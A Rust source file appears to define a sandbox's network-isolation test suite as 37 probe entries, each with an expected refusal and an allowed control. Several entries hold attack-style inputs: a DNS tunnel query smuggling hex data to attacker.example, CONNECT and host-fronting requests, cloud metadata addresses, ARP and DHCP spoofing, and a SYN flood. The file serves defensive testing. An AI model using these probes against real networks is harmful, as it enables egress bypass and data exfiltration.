//! The attacks, as data: an attack is one entry of [`ATTACKS`].
//!
//! Each calls `probe.py` in the guest, as root. `{open}` is an allowed port of the host's loopback address, `{closed}`
//! one with a listener that is not allowed, `{flood}` one whose server sends endlessly, `{host}` an address of this
//! host.

/// One attack.
#[derive(Debug, Clone, Copy)]
pub struct Attack {
    /// Its name in reports.
    pub name: &'static str,
    /// What holds when it passes.
    pub title: &'static str,
    /// The arguments of the attack.
    pub tries: &'static [&'static str],
    /// The permitted outcomes: one of these words.
    pub expect: &'static [&'static str],
    /// How a denial must begin in the log; `None` if nothing should be logged, as for a meaningless frame.
    pub logged: Option<&'static str>,
    /// An allowed attempt of the same kind, and its outcome: without it a dead network would pass.
    pub control: (&'static [&'static str], &'static str),
    /// It needs names that lead to the servers of this run, which only a network of this process can resolve.
    pub needs_names: bool,
}

/// A name that is allowed on ports 80 and 443, although its address is the host's.
pub(super) const ALLOWED: &str = "allowed.isolation.example";
/// A name that is allowed without `private`, and leads to the host.
pub(super) const REBINDING: &str = "rebinding.isolation.example";
/// A name that is allowed with all its subdomains.
pub(super) const WILD: &str = "*.wild.isolation.example";

const OPEN: (&[&str], &str) = (&["tcp", "10.0.2.2", "{open}"], "open");
const RAW_OPEN: (&[&str], &str) = (&["raw", "own", "{open}"], "open");
const NAME: (&[&str], &str) = (&["dns", "A", "allowed.isolation.example"], "address");
const HTTP: (&[&str], &str) =
    (&["http", "allowed.isolation.example", "GET /", "allowed.isolation.example"], "200");

const BASE: Attack = Attack {
    name: "",
    title: "",
    tries: &[],
    expect: &["refused"],
    logged: None,
    control: OPEN,
    needs_names: false,
};

/// All attacks.
pub const ATTACKS: [Attack; 37] = [
    Attack {
        name: "host-loopback",
        title: "a server on the host's loopback is not reached through the gateway",
        tries: &["tcp", "10.0.2.2", "{closed}"],
        logged: Some("127.0.0.1:{closed}"),
        ..BASE
    },
    Attack {
        name: "gateway-ports",
        title: "the gateway exposes no service of its own and no other service of the host",
        tries: &[
            "each",
            "tcp",
            "10.0.2.2:22",
            "10.0.2.2:53",
            "10.0.2.2:80",
            "10.0.2.2:443",
            "10.0.2.2:2223",
            "10.0.2.2:3000",
        ],
        logged: Some("127.0.0.1:22"),
        ..BASE
    },
    Attack {
        name: "resolver-ports",
        title: "the resolver's address has no TCP port, so there is no DNS over TCP",
        tries: &["each", "tcp", "10.0.2.3:53", "10.0.2.3:80", "10.0.2.3:853"],
        logged: Some("10.0.2.3:53"),
        ..BASE
    },
    Attack {
        name: "host-address",
        title: "this host cannot be reached at its own address",
        tries: &["each", "tcp", "{host}:22", "{host}:80", "{host}:{closed}"],
        logged: Some("{host}:22"),
        ..BASE
    },
    Attack {
        name: "metadata",
        title: "no cloud metadata service can be reached",
        tries: &[
            "each",
            "tcp",
            "169.254.169.254:80",
            "169.254.170.2:80",
            "100.100.100.200:80",
            "192.0.0.192:80",
        ],
        logged: Some("169.254.169.254:80"),
        ..BASE
    },
    Attack {
        name: "private-ranges",
        title: "no private network can be reached",
        tries: &[
            "each",
            "tcp",
            "10.0.0.1:80",
            "172.16.0.1:80",
            "192.168.0.1:443",
            "100.64.0.1:22",
            "198.51.100.1:80",
        ],
        logged: Some("10.0.0.1:80"),
        ..BASE
    },
    Attack {
        name: "public-address",
        title: "an address without a rule cannot be reached",
        tries: &["each", "tcp", "1.1.1.1:80", "8.8.8.8:443", "9.9.9.9:22"],
        logged: Some("1.1.1.1:80"),
        ..BASE
    },
    Attack {
        name: "another-sandbox",
        title: "no other machine is on the sandbox's network",
        tries: &["each", "tcp", "10.0.2.16:22", "10.0.2.14:22", "10.0.2.4:445"],
        expect: &["unreachable"],
        ..BASE
    },
    Attack {
        name: "synthetic-address",
        title: "a synthetic address without a name leads nowhere",
        tries: &["tcp", "198.18.255.200", "443"],
        logged: Some("198.18.255.200:443"),
        ..BASE
    },
    Attack {
        name: "dns-name",
        title: "a name that no rule allows does not exist",
        tries: &["dns", "A", "exfiltrated.attacker.example"],
        expect: &["nxdomain"],
        logged: Some("exfiltrated.attacker.example"),
        control: NAME,
        ..BASE
    },
    Attack {
        name: "dns-txt",
        title: "TXT records are not resolved, even for an allowed name",
        tries: &["dns", "TXT", "allowed.isolation.example"],
        expect: &["empty"],
        control: NAME,
        ..BASE
    },
    Attack {
        name: "dns-txt-tunnel",
        title: "a query with data in its labels is not forwarded",
        tries: &["dns", "TXT", "4d5a9000030000000400.ffff0000b800000000000000.t.attacker.example"],
        expect: &["nxdomain"],
        logged: Some("4d5a9000030000000400.ffff0000b800000000000000.t.attacker.example"),
        control: NAME,
        ..BASE
    },
    Attack {
        name: "dns-long-labels",
        title: "a wildcard's star matches at most 63 characters",
        tries: &[
            "dns",
            "A",
            "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb.wild.isolation.example",
        ],
        expect: &["nxdomain"],
        logged: Some("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.bbbb"),
        control: (&["dns", "A", "short.wild.isolation.example"], "address"),
        ..BASE
    },
    Attack {
        name: "dns-many-labels",
        title: "a wildcard's star matches at most three labels",
        tries: &["dns", "A", "a.b.c.d.wild.isolation.example"],
        expect: &["nxdomain"],
        logged: Some("a.b.c.d.wild.isolation.example"),
        control: (&["dns", "A", "b.c.d.wild.isolation.example"], "address"),
        ..BASE
    },
    Attack {
        name: "dns-other-server",
        title: "no other resolver can be reached",
        tries: &["each", "udp", "8.8.8.8:53", "10.0.2.2:53", "1.1.1.1:853"],
        expect: &["unreachable"],
        logged: Some("8.8.8.8:53"),
        control: NAME,
        ..BASE
    },
    Attack {
        name: "dns-over-https",
        title: "resolvers of DNS over HTTPS cannot be reached by address",
        tries: &["each", "tcp", "1.1.1.1:443", "8.8.4.4:443", "9.9.9.9:443"],
        logged: Some("8.8.4.4:443"),
        ..BASE
    },
    Attack {
        name: "dns-over-https-name",
        title: "the names of DNS-over-HTTPS resolvers do not resolve",
        tries: &["dns", "A", "cloudflare-dns.com"],
        expect: &["nxdomain"],
        logged: Some("cloudflare-dns.com"),
        control: NAME,
        ..BASE
    },
    Attack {
        name: "udp",
        title: "no datagram leaves the sandbox",
        tries: &["each", "udp", "1.1.1.1:123", "10.0.2.2:{closed}", "8.8.8.8:443"],
        expect: &["unreachable"],
        logged: Some("1.1.1.1:123"),
        control: NAME,
        ..BASE
    },
    Attack {
        name: "icmp",
        title: "no echo request leaves the sandbox",
        tries: &["ping", "1.1.1.1"],
        expect: &["unreachable"],
        control: (&["ping", "10.0.2.2"], "open"),
        ..BASE
    },
    Attack {
        name: "ipv6",
        title: "there is no way out by IPv6",
        tries: &["each", "tcp6", "2606:4700:4700::1111:443", "::ffff:10.0.2.2:{closed}", "fd00:ec2::254:80"],
        expect: &["unreachable", "refused"],
        control: (&["tcp6", "::ffff:10.0.2.2", "{open}"], "open"),
        ..BASE
    },
    Attack {
        name: "forged-source",
        title: "a packet with another source address is dropped",
        tries: &["raw", "source", "{open}"],
        expect: &["silent"],
        control: RAW_OPEN,
        ..BASE
    },
    Attack {
        name: "public-source",
        title: "a packet with a public source address is dropped",
        tries: &["raw", "public", "{open}"],
        expect: &["silent"],
        control: RAW_OPEN,
        ..BASE
    },
    Attack {
        name: "second-mac",
        title: "a second station is not served",
        tries: &["raw", "mac", "{open}"],
        expect: &["silent"],
        control: RAW_OPEN,
        ..BASE
    },
    Attack {
        name: "fragment",
        title: "a fragment is dropped",
        tries: &["raw", "fragment", "{open}"],
        expect: &["silent"],
        control: RAW_OPEN,
        ..BASE
    },
    Attack {
        name: "raw-socket",
        title: "a raw packet is refused like any other",
        tries: &["raw", "own", "{closed}"],
        logged: Some("127.0.0.1:{closed}"),
        control: RAW_OPEN,
        ..BASE
    },
    Attack {
        name: "jumbo-frame",
        title: "a frame of 9000 bytes changes nothing",
        tries: &["jumbo", "{open}"],
        expect: &["open"],
        ..BASE
    },
    Attack {
        name: "arp-spoofing",
        title: "claiming the gateway's address changes nothing",
        tries: &["arp", "{open}"],
        expect: &["open"],
        ..BASE
    },
    Attack {
        name: "dhcp-spoofing",
        title: "the guest gets its own address, whatever it requests",
        tries: &["dhcp", "10.0.2.77"],
        expect: &["10.0.2.15"],
        control: (&["dhcp", "10.0.2.15"], "10.0.2.15"),
        ..BASE
    },
    Attack {
        name: "slow-reader",
        title: "a client that does not read delays no other connection",
        tries: &["slow", "{flood}", "{open}"],
        expect: &["open"],
        ..BASE
    },
    Attack {
        name: "syn-flood",
        title: "the network survives 100,000 half-open connections",
        tries: &["flood", "100000", "{closed}", "{open}"],
        expect: &["open"],
        ..BASE
    },
    Attack {
        name: "rebinding",
        title: "a connection to an allowed name that leads to the host is refused",
        tries: &["named", "rebinding.isolation.example", "443"],
        logged: Some("rebinding.isolation.example:443"),
        control: HTTP,
        needs_names: true,
        ..BASE
    },
    Attack {
        name: "name-port",
        title: "an allowed name has no ports other than 80 and 443",
        tries: &["named", "allowed.isolation.example", "22"],
        logged: Some("allowed.isolation.example:22"),
        control: HTTP,
        needs_names: true,
        ..BASE
    },
    Attack {
        name: "http-fronting",
        title: "plain HTTP to an allowed name cannot request another host",
        tries: &["http", "allowed.isolation.example", "GET /", "attacker.example"],
        expect: &["403"],
        logged: Some("allowed.isolation.example:80"),
        control: HTTP,
        needs_names: true,
    },
    Attack {
        name: "http-absolute",
        title: "the host of an absolute request must match its header",
        tries: &[
            "http",
            "allowed.isolation.example",
            "GET http://attacker.example/",
            "allowed.isolation.example",
        ],
        expect: &["403", "400"],
        logged: Some("allowed.isolation.example:80"),
        control: HTTP,
        needs_names: true,
    },
    Attack {
        name: "http-connect",
        title: "CONNECT cannot open a tunnel",
        tries: &["http", "allowed.isolation.example", "CONNECT attacker.example:443", "attacker.example:443"],
        expect: &["403", "400"],
        logged: Some("allowed.isolation.example:80"),
        control: HTTP,
        needs_names: true,
    },
    Attack {
        name: "tls-other-name",
        title: "TLS to an allowed name cannot name another server",
        tries: &["tls", "allowed.isolation.example", "attacker.example"],
        expect: &["alert"],
        logged: Some("allowed.isolation.example:443"),
        control: (&["tls", "allowed.isolation.example", "allowed.isolation.example"], "open"),
        needs_names: true,
    },
    Attack {
        name: "tls-without-name",
        title: "TLS without a name is refused",
        tries: &["tls", "allowed.isolation.example", "-"],
        expect: &["alert"],
        logged: Some("allowed.isolation.example:443"),
        control: (&["tls", "allowed.isolation.example", "allowed.isolation.example"], "open"),
        needs_names: true,
    },
];

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeSet;

    #[test]
    fn attack_names_are_unique_and_controls_differ_from_attacks() {
        let names: BTreeSet<&str> = ATTACKS.iter().map(|attack| attack.name).collect();
        assert_eq!(names.len(), ATTACKS.len());
        for attack in ATTACKS {
            assert!(!attack.title.is_empty() && !attack.expect.is_empty(), "{attack:?}");
            assert_ne!(attack.tries, attack.control.0, "{attack:?}");
        }
    }

    #[test]
    fn silence_counts_only_if_the_same_frame_is_answered_when_allowed() {
        for attack in ATTACKS.iter().filter(|attack| attack.expect.contains(&"silent")) {
            assert_eq!(attack.expect, ["silent"], "{attack:?}");
            assert_eq!(attack.control, RAW_OPEN, "{attack:?}");
        }
    }

    #[test]
    fn refusals_by_a_rule_must_be_reported() {
        // Meaningless frames and answered queries are not denials, and neither is what the guest's own kernel refuses.
        let silent = ATTACKS.iter().filter(|attack| attack.logged.is_none()).filter(|attack| {
            attack.expect.iter().any(|word| matches!(*word, "refused" | "nxdomain" | "403" | "alert"))
        });
        let names: Vec<&str> = silent.map(|attack| attack.name).collect();
        assert_eq!(names, ["ipv6"]);
    }
}
